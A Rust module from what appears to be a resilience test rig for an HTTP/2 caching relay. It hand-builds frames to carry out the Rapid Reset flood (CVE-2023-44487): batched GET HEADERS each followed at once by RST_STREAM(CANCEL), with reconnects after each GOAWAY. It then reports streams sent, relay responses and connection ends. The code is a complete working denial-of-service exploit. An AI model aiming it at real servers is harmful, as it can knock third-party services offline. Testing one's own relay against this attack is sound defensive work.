//! `rapid-reset`: HTTP/2 streams opened and reset at once (CVE-2023-44487).
//!
//! The frames are written by hand: an `h2` client that resets a stream it
//! has not flushed yet never puts its HEADERS on the wire, so the relay
//! would see nothing. Each worker holds one TCP connection and writes, in
//! batches, HEADERS (a GET for a key no one asked before, `/vod/K?rr=I`,
//! END_STREAM) immediately followed by RST_STREAM(CANCEL) for the same
//! stream. A reader task answers the relay's SETTINGS and PINGs and notes
//! what the relay sent (response HEADERS, RST_STREAM, GOAWAY and its code).
//! After its last batch the worker sends a PING and waits for the ACK, so
//! the relay has read every frame before the connection closes. When the
//! relay ends a connection (GOAWAY, e.g. ENHANCE_YOUR_CALM), the worker
//! opens another until its share is sent. The rig then compares origin
//! requests with the streams sent and reads the relay's CPU.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use parking_lot::Mutex;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::{mpsc, Notify};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use super::{counts, secs, Ctx, Outcome, Verdict};
use crate::net;

/// Longest a connect may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
/// Longest the relay may take to answer the final PING.
const PING_TIMEOUT: Duration = Duration::from_secs(10);
/// Stream pairs (HEADERS + RST_STREAM) per write.
const BATCH: usize = 50;
/// The client connection preface: the magic and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// Payload of the worker's final PING.
const PING_MARK: [u8; 8] = *b"mlcache!";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const ACK: u8 = 0x1;
const CANCEL: u32 = 0x8;

#[derive(Default)]
struct State {
    sent: AtomicU64,
    discarded: AtomicU64,
    connections: AtomicU64,
    response_heads: AtomicU64,
    resets_from_relay: AtomicU64,
    ends: Mutex<BTreeMap<String, u64>>,
    failures: Mutex<BTreeMap<String, u64>>,
}

/// Runs the attack.
pub async fn attack(ctx: &Ctx) -> anyhow::Result<Outcome> {
    let conns = ctx.args.connections.unwrap_or(4).max(1);
    let per = ctx.args.streams.unwrap_or(2500).max(1);
    let total = (conns * per) as u64;
    let st = Arc::new(State::default());
    let stop = ctx.stop.child_token();
    let plan = Plan {
        per,
        relay: ctx.relay,
        origin: ctx.origin,
        reset_after: ctx.args.reset_after,
        deadline: ctx.deadline,
    };
    let t0 = Instant::now();
    let mut tasks = JoinSet::new();
    for i in 0..conns {
        tasks.spawn(worker(i, plan, st.clone(), stop.clone()));
    }
    loop {
        tokio::select! {
            r = tasks.join_next() => if r.is_none() { break },
            _ = tokio::time::sleep(Duration::from_millis(500)) => {
                ctx.progress(format!(
                    "streams sent and reset {}/{total} over {} connections; ends: {}",
                    st.sent.load(Ordering::Relaxed),
                    st.connections.load(Ordering::Relaxed),
                    counts(&st.ends.lock())
                ));
            }
        }
    }
    let took = t0.elapsed();
    let sent = st.sent.load(Ordering::Relaxed);
    let mut o = Outcome {
        viewer_grace: Duration::ZERO,
        origin_bound: Some((sent, "at most one per stream sent".into())),
        ..Outcome::default()
    };
    o.rows.push((
        "parameters".into(),
        format!(
            "{conns} workers × {per} streams = {total} GETs of distinct keys (/vod/K?rr=I), raw frames: HEADERS then RST_STREAM(CANCEL) {}, {BATCH} streams per batch; a worker reconnects when the relay ends its connection",
            if ctx.args.reset_after.is_zero() {
                "in the same write".to_string()
            } else {
                format!("{} later", humantime::format_duration(ctx.args.reset_after))
            }
        ),
    ));
    o.rows.push((
        "streams".into(),
        format!(
            "{sent} sent and reset at or below the relay's GOAWAY last-stream-id in {} ({:.0}/s) over {} connections ({} more written past a GOAWAY, sent again); the relay answered {} with a response head and reset {}",
            secs(took),
            sent as f64 / took.as_secs_f64().max(1e-9),
            st.connections.load(Ordering::Relaxed),
            st.discarded.load(Ordering::Relaxed),
            st.response_heads.load(Ordering::Relaxed),
            st.resets_from_relay.load(Ordering::Relaxed)
        ),
    ));
    o.rows.push((
        "connection ends".into(),
        format!(
            "{}; failures: {}",
            counts(&st.ends.lock()),
            counts(&st.failures.lock())
        ),
    ));
    o.verdicts.push(Verdict::new(
        format!("all {total} streams sent"),
        sent.to_string(),
        sent == total,
    ));
    Ok(o)
}

/// A frame header and payload.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = payload.len() as u32;
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
}

/// An HPACK integer with an `n`-bit prefix (RFC 7541 §5.1).
fn hpack_int(out: &mut Vec<u8>, first: u8, n: u32, mut v: usize) {
    let max = (1usize << n) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

/// A literal header field without indexing, name from the static table.
fn hpack_literal(out: &mut Vec<u8>, index: usize, value: &str) {
    hpack_int(out, 0x00, 4, index);
    hpack_int(out, 0x00, 7, value.len());
    out.extend_from_slice(value.as_bytes());
}

/// A GET's header block: :method GET, :scheme http, :path, :authority.
fn get_block(path: &str, authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86];
    hpack_literal(&mut b, 4, path);
    hpack_literal(&mut b, 1, authority);
    b
}

/// What the reader saw on one connection.
#[derive(Default)]
struct Seen {
    goaway: Mutex<Option<String>>,
    /// The GOAWAY's last stream id: later streams were not processed.
    last_id: AtomicU32,
    closed: AtomicBool,
    pong: Notify,
}

/// Reads the relay's frames: acks SETTINGS and PING through `acks`, counts
/// responses and resets, notes GOAWAY and the end of the connection.
async fn reader(
    mut rd: OwnedReadHalf,
    acks: mpsc::UnboundedSender<Vec<u8>>,
    seen: Arc<Seen>,
    st: Arc<State>,
) {
    let mut buf: Vec<u8> = Vec::with_capacity(64 * 1024);
    let mut tmp = vec![0u8; 64 * 1024];
    loop {
        let n = match rd.read(&mut tmp).await {
            Ok(0) | Err(_) => break,
            Ok(n) => n,
        };
        buf.extend_from_slice(&tmp[..n]);
        let mut at = 0;
        while buf.len() - at >= 9 {
            let h = &buf[at..at + 9];
            let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
            if buf.len() - at < 9 + len {
                break;
            }
            let (kind, flags) = (h[3], h[4]);
            let payload = &buf[at + 9..at + 9 + len];
            match kind {
                SETTINGS if flags & ACK == 0 => {
                    let mut f = Vec::new();
                    frame(&mut f, SETTINGS, ACK, 0, &[]);
                    let _ = acks.send(f);
                }
                PING if flags & ACK == 0 => {
                    let mut f = Vec::new();
                    frame(&mut f, PING, ACK, 0, payload);
                    let _ = acks.send(f);
                }
                PING if payload == PING_MARK => seen.pong.notify_one(),
                HEADERS => {
                    st.response_heads.fetch_add(1, Ordering::Relaxed);
                }
                RST_STREAM => {
                    st.resets_from_relay.fetch_add(1, Ordering::Relaxed);
                }
                GOAWAY if payload.len() >= 8 => {
                    let code = u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
                    let last = u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
                    seen.last_id.store(last & 0x7fff_ffff, Ordering::Relaxed);
                    *seen.goaway.lock() = Some(format!("GOAWAY {:?}", h2::Reason::from(code)));
                }
                _ => {}
            }
            at += 9 + len;
        }
        buf.drain(..at);
    }
    seen.closed.store(true, Ordering::Relaxed);
    // Wake a worker waiting for its PING: no answer is coming.
    seen.pong.notify_one();
}

/// What every worker does.
#[derive(Clone, Copy)]
struct Plan {
    /// Streams per worker.
    per: usize,
    relay: SocketAddr,
    origin: SocketAddr,
    /// Pause between a batch's HEADERS and its resets.
    reset_after: Duration,
    deadline: Instant,
}

async fn worker(i: usize, plan: Plan, st: Arc<State>, stop: CancellationToken) {
    let Plan {
        per,
        relay,
        origin,
        reset_after,
        deadline,
    } = plan;
    let fail = |what: String| *st.failures.lock().entry(what).or_default() += 1;
    let authority = origin.to_string();
    let mut sent = 0usize;
    // Every connection sends at least one stream or counts a failure, so
    // this bounds the reconnects too.
    let mut attempts = 0usize;
    while sent < per && attempts < per && !stop.is_cancelled() && Instant::now() < deadline {
        attempts += 1;
        let tcp = match tokio::time::timeout(CONNECT_TIMEOUT, net::connect(relay, None)).await {
            Ok(Ok(t)) => t,
            Ok(Err(e)) => {
                fail(format!("connect: {}", e.kind()));
                continue;
            }
            Err(_) => {
                fail("connect timeout".into());
                continue;
            }
        };
        st.connections.fetch_add(1, Ordering::Relaxed);
        let (rd, mut wr) = tcp.into_split();
        let (acks_tx, mut acks) = mpsc::unbounded_channel();
        let seen = Arc::new(Seen {
            last_id: AtomicU32::new(u32::MAX),
            ..Seen::default()
        });
        let mut read = tokio::spawn(reader(rd, acks_tx, seen.clone(), st.clone()));
        let mut out = PREFACE.to_vec();
        let mut id: u32 = 1;
        let mut wrote = true;
        let mut written = 0usize;
        while sent + written < per && !stop.is_cancelled() && Instant::now() < deadline {
            if seen.goaway.lock().is_some() || seen.closed.load(Ordering::Relaxed) {
                break;
            }
            while let Ok(a) = acks.try_recv() {
                out.extend_from_slice(&a);
            }
            let n = BATCH.min(per - sent - written);
            let mut resets = Vec::new();
            for k in 0..n {
                let j = sent + written + k;
                let block = get_block(
                    &format!("/vod/{}?rr={i}-{j}", (i * per + j) % 100),
                    &authority,
                );
                frame(&mut out, HEADERS, END_STREAM | END_HEADERS, id, &block);
                let rst = if reset_after.is_zero() {
                    &mut out
                } else {
                    &mut resets
                };
                frame(rst, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                id += 2;
            }
            if wr.write_all(&out).await.is_err() {
                wrote = false;
                break;
            }
            out.clear();
            if !resets.is_empty() {
                tokio::time::sleep(reset_after).await;
                if wr.write_all(&resets).await.is_err() {
                    wrote = false;
                    break;
                }
            }
            written += n;
        }
        // Make sure the relay has read everything before letting go.
        let mut ping = Vec::new();
        while let Ok(a) = acks.try_recv() {
            ping.extend_from_slice(&a);
        }
        frame(&mut ping, PING, 0, 0, &PING_MARK);
        let ponged = wrote
            && wr.write_all(&ping).await.is_ok()
            && tokio::time::timeout(PING_TIMEOUT, seen.pong.notified())
                .await
                .is_ok()
            && !seen.closed.load(Ordering::Relaxed);
        let _ = wr.shutdown().await;
        drop(wr);
        // The relay closes once it reads the end: let the reader see a
        // GOAWAY that may still be in flight, then stop it.
        let _ = tokio::time::timeout(PING_TIMEOUT, &mut read).await;
        read.abort();
        // Streams past a GOAWAY's last stream id were never processed: they
        // go again on the next connection.
        let last = seen.last_id.load(Ordering::Relaxed);
        let processed = if last == u32::MAX {
            written
        } else {
            written.min(last.div_ceil(2) as usize)
        };
        sent += processed;
        st.sent.fetch_add(processed as u64, Ordering::Relaxed);
        st.discarded
            .fetch_add((written - processed) as u64, Ordering::Relaxed);
        let end = match seen.goaway.lock().clone() {
            Some(g) => g,
            None if ponged => "open until the worker closed it".into(),
            None if !wrote => "reset by the relay while writing".into(),
            None if seen.closed.load(Ordering::Relaxed) => "closed by the relay".into(),
            None => "no PING answer".into(),
        };
        *st.ends.lock().entry(end).or_default() += 1;
    }
}
